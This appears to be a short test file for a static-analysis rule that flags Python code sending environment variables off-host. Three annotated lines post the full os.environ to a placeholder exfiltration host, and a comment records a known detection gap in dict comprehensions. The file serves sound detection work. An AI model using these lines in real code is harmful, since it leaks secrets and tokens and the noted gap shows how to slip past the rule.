import json
import os

import requests

# ruleid: python-send-environment
requests.post("http://collector.exfil.invalid/c", json=dict(os.environ))

lines = []
for key, value in os.environ.items():
    lines.append(key + "=" + value)
# ruleid: python-send-environment
requests.post("http://collector.exfil.invalid/c", data="\n".join(lines))

# Known gap: taint does not flow through dict comprehensions.
env_dump = json.dumps({k: v for k, v in os.environ.items()})
# todoruleid: python-send-environment
requests.post("http://collector.exfil.invalid/c", data=env_dump)

# ok: python-send-environment
requests.get("http://127.0.0.1:9000/api", headers={"Authorization": os.environ["API_TOKEN"]})

# ok: python-send-environment
requests.get("http://127.0.0.1:9000/api", params={"region": os.environ.get("REGION", "eu")})
